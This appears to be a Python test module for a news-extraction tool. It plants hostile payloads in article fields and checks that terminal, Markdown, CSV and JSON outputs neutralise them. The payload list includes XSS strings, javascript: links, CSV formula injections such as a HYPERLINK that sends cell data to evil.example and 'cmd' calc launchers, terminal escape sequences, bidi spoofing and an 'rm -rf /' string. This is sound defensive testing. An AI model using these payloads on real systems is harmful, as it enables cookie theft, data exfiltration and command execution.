"""Hostile payloads for the output-safety tests, a store built by hand around them, and the checks.

Every payload is a string a scraped news page could carry in its title, outlet,
URL or text. The store puts each one in every field a listing or a timeline
shows (article fields, quote and event spans, entity names, claim quantities),
so each output format meets each payload.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta
from pathlib import Path

from markdown_it import MarkdownIt

from dateline.extract.links import LinkStage
from dateline.extract.sentences import split_sentences
from dateline.extract.temporal import extract_times
from dateline.model import (
    Article,
    Claim,
    DateSource,
    Document,
    EntityKind,
    Event,
    Mention,
    Modality,
    Participant,
    Precision,
    Quote,
    QuoteKind,
    content_id,
)
from dateline.pipeline import run_corpus_stages
from dateline.settings import Settings
from dateline.store import Store

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('x')</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "js_url": "javascript:alert(document.cookie)",
    "js_url_mixed": " JaVaScRiPt:alert(1)",
    "data_url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "md_link": "[read more](javascript:alert(1))",
    "md_image": "![pixel](https://tracker.example/p.gif)",
    "md_autolink": "<javascript:alert(1)>",
    "md_breakout": "x](javascript:alert(1)) [y",
    "md_refdef": "see [home]\n\n[home]: javascript:alert(1)\n",
    "md_blocks": "\n# Breaking\n---\n> quoted\n1. listed",
    "md_entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:x",
    "md_code": "`rm -rf /` and ```fenced```",
    "table_pipe": "left | right |",
    "csv_formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "csv_plus": "+1+cmd|' /C calc'!A0",
    "csv_minus": "-2+3+cmd|' /C calc'!A0",
    "csv_at": "@SUM(1,2)",
    "csv_tab": "\t=1+2",
    "csv_cr": "\r=1+2",
    "ansi_colour": "\x1b[31mRED\x1b[0m",
    "ansi_clear": "\x1b[2J\x1b[Hcleared",
    "osc_link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;owned\x07title",
    "csi_8bit": "\x9b31mred",
    "terminal_reset": "\x1bcreset",
    "rich_close": "[/caption]",
    "rich_bold": "[bold]loud[/bold]",
    "rich_link": "[link=http://evil.example]x[/link]",
    "bidi_override": "\u202egnp.exe\u202c",
    "bidi_isolate": "\u2066admin\u2069",
    "zero_width": "pay\u200bpal\ufeff",
    "overwrite": "safe\rEVIL\x08\x08",
}

# characters that must never reach a terminal: C0 controls but tab and newline, DEL, C1 controls,
# bidi embeddings/overrides/isolates (CVE-2021-42574) and invisible zero-width characters
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]")
_NUMBER = re.compile(r"-?[0-9][0-9,.]*")
_FIRST = ["Khaled", "Tom", "Amira", "Sven", "Lucia", "Omar", "Ines", "Piotr"]
_LAST = ["Masri", "Hale", "Haddad", "Lund", "Ferri", "Nasser", "Costa", "Nowak"]
_CITIES = ["Amman", "Irbid", "Aqaba", "Zarqa", "Madaba", "Jerash", "Karak", "Salt"]
_TOPICS = ["harbour budget", "bridge repairs", "water supply", "school repairs", "grain prices",
           "bus routes", "power cuts", "flood defences"]


# what a reader still sees of a payload made of terminal escapes (the escapes themselves go)
_READABLE = {"ansi_colour": "RED", "ansi_clear": "cleared", "osc_link": "click", "osc_title": "title",
             "csi_8bit": "red", "terminal_reset": "reset"}


OUTLET_SUFFIX = " Wire"  # an article's outlet is its payload and this: never the same name as its lead's organisation


def visible(payload: str) -> str:
    """The words of a payload that must still be readable after cleaning (runs of 4+ letters)."""
    if payload.endswith(OUTLET_SUFFIX) and payload != OUTLET_SUFFIX:
        return f"{visible(payload.removesuffix(OUTLET_SUFFIX))} {OUTLET_SUFFIX.strip()}".strip()
    for name, words in _READABLE.items():
        if PAYLOADS[name] == payload:
            return words
    return " ".join(re.findall(r"[A-Za-z]{4,}", payload))


def _text(i: int, payload: str) -> tuple[str, dict[str, tuple[int, int]]]:
    """An article text carrying the payload in its lead, a quote and a figure, with the spans."""
    person = f"{_FIRST[i % 8]} {_LAST[(i * 3) % 8]}"
    city, topic = _CITIES[i % 8], _TOPICS[(i * 5) % 8]
    parts, spans, pos = [], {}, 0

    def put(chunk: str, name: str | None = None) -> None:
        nonlocal pos
        if name:
            spans[name] = (pos, pos + len(chunk))
        parts.append(chunk)
        pos += len(chunk)

    put(f"The {city} council met on Monday about the {topic}: ")
    put(payload, "lead")
    put(f" was posted at the door. “We will send {1000 + 37 * i} tents, ")
    put(payload, "quote_payload")
    put(",” ")
    put(person, "person")
    put(" ")
    put("said", "cue")
    put(" on Tuesday. Crews counted ")
    put(f"{200 + 11 * i}", "number")
    put(" families ")
    put(payload, "counted")
    put(f" near {city} on Wednesday.")
    text = "".join(parts)
    qstart = text.index("“") + 1
    spans["quote"] = (qstart, spans["quote_payload"][1])
    return text, spans


def hostile_document(i: int, name: str, payload: str) -> Document:
    """One article with the payload in its title, outlet, URL and text, annotated by hand."""
    text, spans = _text(i, payload)
    day = date(2024, 3, 4) + timedelta(days=14 * i)  # a Monday; two weeks apart so no two articles share a date
    article = Article(id=content_id(text), text=text, title=f"{name}: {payload}", url=payload.strip(),
                      # the outlet carries the payload too, kept apart from the lead's organisation, which an
                      # article never lists as a participant when it is its own outlet
                      source=payload + OUTLET_SUFFIX, published=day, date_precision=Precision.DAY,
                      date_source=DateSource.METADATA, origin=f"hostile/{name}.json")
    lead, person, quote = spans["lead"], spans["person"], spans["quote"]
    # the payload is also named as an organisation, so entity linking makes an entity of it
    mentions = (Mention(*person, kind=EntityKind.PERSON, label="PERSON", name_start=person[0], name_end=person[1]),
                Mention(*lead, kind=EntityKind.ORG, label="ORG", name_start=lead[0], name_end=lead[1]))
    quotes = (Quote(*quote, kind=QuoteKind.DIRECT, cue_start=spans["cue"][0], cue_end=spans["cue"][1],
                    speaker_start=person[0], speaker_end=person[1]),)
    events = (Event(*lead, type="CONSULT", sentence=0, participants=(Participant("agent", *lead),),
                    date=day.isoformat(), precision=Precision.DAY, modality=Modality.HAPPENED),)
    number, counted = spans["number"], spans["counted"]
    claims = (Claim(*number, value=float(text[slice(*number)]), unit="family", counted_start=counted[0],
                    counted_end=counted[1], quantity=f"count|{payload}", date=day.isoformat()),)
    return Document(article=article, sentences=split_sentences(text), timexes=tuple(extract_times(text, day)),
                    mentions=mentions, quotes=quotes, events=events, claims=claims,
                    layers=frozenset({"sentences", "timexes", "mentions", "quotes", "events", "claims"}))


def build_store(path, payloads: dict[str, str] = PAYLOADS) -> list[Document]:
    """A store of one document per payload; the shipped corpus stages make entities, claim groups, stories."""
    settings = Settings(db_path=Path(path), stage_errors="raise")
    links = LinkStage(settings)  # the per-article stage that ties mentions, speakers and claimants together
    docs = [links(hostile_document(i, name, payload)) for i, (name, payload) in enumerate(payloads.items())]
    with Store(path) as store:
        for doc in docs:
            store.add_article(doc.article, doc=doc, stages=tuple(sorted(doc.layers)))
        run_corpus_stages(store, settings)
    return docs


# -- the checks ---------------------------------------------------------------------------


def assert_terminal_safe(out: str) -> None:
    """No escape sequence, control, bidi-override or invisible character reaches the terminal."""
    bad = _UNSAFE.search(out)
    assert bad is None, f"unsafe character {bad.group()!r} at {bad.start()}: {out[max(0, bad.start() - 40):bad.start() + 40]!r}"


def assert_markdown_safe(md: str) -> str:
    """Parsed as CommonMark with tables: no raw HTML, no image, every link http(s). Returns the HTML."""
    parser = MarkdownIt("commonmark").enable("table")
    tokens = parser.parse(md)
    for token in _walk(tokens):
        assert token.type not in {"html_inline", "html_block"}, f"raw HTML survived: {token.content!r}"
        assert token.type != "image", f"an image would be fetched: {token.attrGet('src')!r}"
        if token.type == "link_open":
            href = token.attrGet("href") or ""
            assert href.startswith(("http://", "https://")), f"link to {href!r}"
    html = parser.render(md)
    assert "<script" not in html.lower() and not re.search(r"<[^>]*\son\w+\s*=", html, re.I)
    assert_terminal_safe(md)
    return html


def _walk(tokens):
    for token in tokens:
        yield token
        yield from _walk(token.children or [])


def assert_csv_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run as a formula (OWASP); returns the parsed rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            # a leading tab, CR or space before a trigger is trimmed by some spreadsheets
            if cell.lstrip()[:1] in ("=", "+", "-", "@") and not _NUMBER.fullmatch(cell):
                raise AssertionError(f"CSV cell would run as a formula: {cell!r}")
    assert_terminal_safe(text.replace("\r\n", "\n"))
    return rows


def assert_json_safe(text: str):
    """Valid JSON with every control or bidi character escaped, not raw. Returns the data."""
    assert_terminal_safe(text)
    return json.loads(text)
